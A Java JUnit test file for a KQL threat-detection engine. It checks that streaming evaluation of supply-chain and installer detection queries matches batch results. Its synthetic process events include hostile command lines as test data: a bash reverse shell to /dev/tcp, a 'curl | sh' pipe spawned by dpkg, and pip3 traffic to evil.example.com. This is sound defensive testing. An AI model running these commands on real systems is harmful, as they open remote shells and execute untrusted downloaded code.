package dev.hookline.kql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.kql.eval.Kql;
import dev.hookline.schema.Event;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;

class StreamingMatchesBatchTest {
    static final long NOW = Ev.NOW;
    static final long RECENT = NOW - Ev.HOUR;
    static final long OLD = NOW - 30 * Ev.HOUR;

    /** A mix that hits and misses every arm of both seeds. */
    static List<Event> events() {
        List<Event> l = new ArrayList<>();
        // T1195.001 arm 1: package manager spawning a suspicious child / command
        l.add(Ev.proc(RECENT).s("DeviceName", "h1").s("AccountName", "dev").s("FileName", "curl.exe")
                .s("ProcessCommandLine", "curl.exe http://x").s("InitiatingProcessFileName", "node.exe")
                .s("InitiatingProcessCommandLine", "node install.js").build());
        l.add(Ev.proc(RECENT + 1).s("FileName", "sh").s("ProcessCommandLine", "sh -c 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'")
                .s("InitiatingProcessFileName", "npm").build());
        l.add(Ev.proc(OLD).s("FileName", "cmd.exe").s("InitiatingProcessFileName", "npm.cmd").build()); // too old
        l.add(Ev.proc(RECENT + 2).s("FileName", "ls").s("ProcessCommandLine", "ls -la")
                .s("InitiatingProcessFileName", "node").build()); // benign child
        // T1546.016 arm 1: installer children
        l.add(Ev.proc(RECENT + 3).s("FileName", "BASH").s("ProcessCommandLine", "bash -c 'curl http://x | sh'")
                .s("InitiatingProcessFileName", "dpkg").s("AccountName", "root").build());
        l.add(Ev.proc(RECENT + 4).s("FileName", "python3").s("ProcessCommandLine", "python3 setup.py")
                .s("InitiatingProcessFileName", "MSIEXEC.EXE").build());
        l.add(Ev.proc(RECENT + 5).s("FileName", "vim").s("InitiatingProcessFileName", "apt").build());
        // networks
        l.add(Ev.net(RECENT + 6).s("InitiatingProcessFileName", "pip3").s("RemoteIPType", "Public")
                .s("RemoteUrl", "evil.example.com").s("RemoteIP", "5.6.7.8").n("RemotePort", 443)
                .s("InitiatingProcessAccountName", "dev").build());
        l.add(Ev.net(RECENT + 7).s("InitiatingProcessFileName", "pip3").s("RemoteIPType", "Public")
                .s("RemoteUrl", "files.pythonhosted.org").s("RemoteIP", "1.1.1.1").n("RemotePort", 443).build());
        l.add(Ev.net(RECENT + 8).s("InitiatingProcessFileName", "msiexec.exe").s("RemoteIPType", "Public")
                .s("RemoteIP", "9.9.9.9").nul("RemotePort").build());
        l.add(Ev.net(RECENT + 9).s("InitiatingProcessFileName", "installer").s("RemoteIPType", "Private")
                .s("RemoteIP", "10.0.0.1").n("RemotePort", 80).build());
        // files
        l.add(Ev.file(RECENT + 10).s("FolderPath", "/src/app/.github/workflows/ci.yml").s("FileName", "ci.yml")
                .s("ActionType", "FileRenamed").s("InitiatingProcessAccountName", "dev").build());
        l.add(Ev.file(RECENT + 11).s("FolderPath", "/src/app").s("FileName", "Makefile").s("ActionType", "FileRenamed").build());
        l.add(Ev.file(RECENT + 12).s("FolderPath", "/src/app").s("FileName", "pom.xml").s("ActionType", "FileCreated").build());
        l.add(Ev.file(RECENT + 13).s("FolderPath", "/src/app").s("FileName", "notes.txt").s("ActionType", "FileCreated").build());
        return l;
    }

    /** Streams every event and widens each alert row to the batch columns (absent ones null). */
    static List<List<Object>> streamRows(CompiledQuery q, List<String> batchColumns, List<Event> evs) {
        List<List<Object>> out = new ArrayList<>();
        StreamingQuery s = q.streaming();
        for (Event e : evs) {
            s.accept(e, NOW, (arm, ev, row) -> {
                assertEquals(arm.outputColumns().size(), row.length);
                Object[] wide = new Object[batchColumns.size()];
                for (int i = 0; i < row.length; i++) {
                    wide[batchColumns.indexOf(arm.outputColumns().get(i))] = row[i];
                }
                out.add(Arrays.asList(wide));
            });
        }
        return out;
    }

    private static void assertSameRows(String query, int expectedRows) {
        CompiledQuery q = Kql.compile(query);
        ResultTable batch = q.run(new MemorySource(events()), NOW);
        List<List<Object>> b = new ArrayList<>();
        for (Object[] r : batch.rows()) {
            b.add(Arrays.asList(r));
        }
        List<List<Object>> s = streamRows(q, batch.columnNames(), events());
        assertEquals(expectedRows, b.size());
        Collections.sort(b, (x, y) -> x.toString().compareTo(y.toString()));
        Collections.sort(s, (x, y) -> x.toString().compareTo(y.toString()));
        assertEquals(b, s);
    }

    @Test
    void t1195StreamingRowsEqualBatchRows() {
        // arm1: curl.exe child, bash -i child; arm2: evil.example.com; arm3: workflow rename, pom.xml created
        assertSameRows(Seeds.t1195(), 5);
    }

    @Test
    void t1546StreamingRowsEqualBatchRows() {
        // children: BASH under dpkg, python3 under MSIEXEC.EXE; network: msiexec.exe public
        assertSameRows(Seeds.t1546(), 3);
    }

    @Test
    void t1546NetworkAlertRowEndsWithEventTypeAndHasNullAccountName() {
        List<Object[]> rows = new ArrayList<>();
        List<String> arms = new ArrayList<>();
        StreamingQuery s = Kql.compile(Seeds.t1546()).streaming();
        for (Event e : events()) {
            s.accept(e, NOW, (arm, ev, row) -> {
                rows.add(row);
                arms.add(arm.name());
            });
        }
        int i = arms.indexOf("INSTALLER_NETWORK_ACTIVITY");
        Object[] row = rows.get(i);
        assertEquals(null, row[2]); // AccountName: DeviceNetworkEvents has no such column
        assertEquals(null, row[4]);
        assertEquals("INSTALLER_NETWORK_ACTIVITY", row[6]);
        assertEquals(Boolean.TRUE, rows.get(arms.indexOf("INSTALLER_CHILD_PROCESS"))[6]);
    }

    @Test
    void postUnionOperatorsApplyToEveryArm() {
        String q = "union (DeviceProcessEvents | project Timestamp, FileName), (DeviceNetworkEvents | project Timestamp, RemoteIP)"
                + " | where Timestamp > ago(2h) and isempty(RemoteIP) | extend Tag = 'x' | sort by Timestamp desc | take 100";
        assertSameRows(q, 6);
        StreamingQuery s = Kql.compile(q).streaming();
        assertEquals(List.of("Timestamp", "FileName", "Tag"), s.arms().get(0).outputColumns());
        assertEquals("arm1", s.arms().get(0).name());
    }

    @Test
    void dynamicColumnsStreamAsTheyRunInBatch() {
        assertSameRows("DeviceFileEvents | extend A = parse_json(strcat('{\"n\":\"', FileName, '\",\"t\":[1,2]}'))"
                + " | where A.n contains 'ml' and A.t[-1] == 2 | project FileName, A, N = A.n, L = array_length(A.t)", 2);
    }

    @Test
    void operatorsThatNeedTheWholeTableCannotStream() {
        KqlException e = assertThrows(KqlException.class,
                () -> Kql.compile("DeviceProcessEvents | summarize count() by FileName").streaming());
        assertTrue(e.getMessage().contains("'summarize'"), e.getMessage());
        assertThrows(KqlException.class, () -> Kql.compile("DeviceProcessEvents | count").streaming());
        KqlException e2 = assertThrows(KqlException.class,
                () -> Kql.compile("DeviceProcessEvents | take 5 | where FileName == 'x'").streaming());
        assertTrue(e2.getMessage().contains("'take'"), e2.getMessage());
        // a sort inside a branch only orders it (it streams); one followed by take trims it, which cannot stream
        assertEquals(2, Kql.compile("union (DeviceProcessEvents | sort by Timestamp), DeviceFileEvents").streaming()
                .arms().size());
        assertThrows(KqlException.class, () -> Kql.compile(
                "union (DeviceProcessEvents | sort by Timestamp | take 3), DeviceFileEvents").streaming());
        assertEquals(1, Kql.compile("DeviceProcessEvents | where FileName == 'x' | sort by Timestamp | take 10")
                .streaming().arms().size());
    }
}
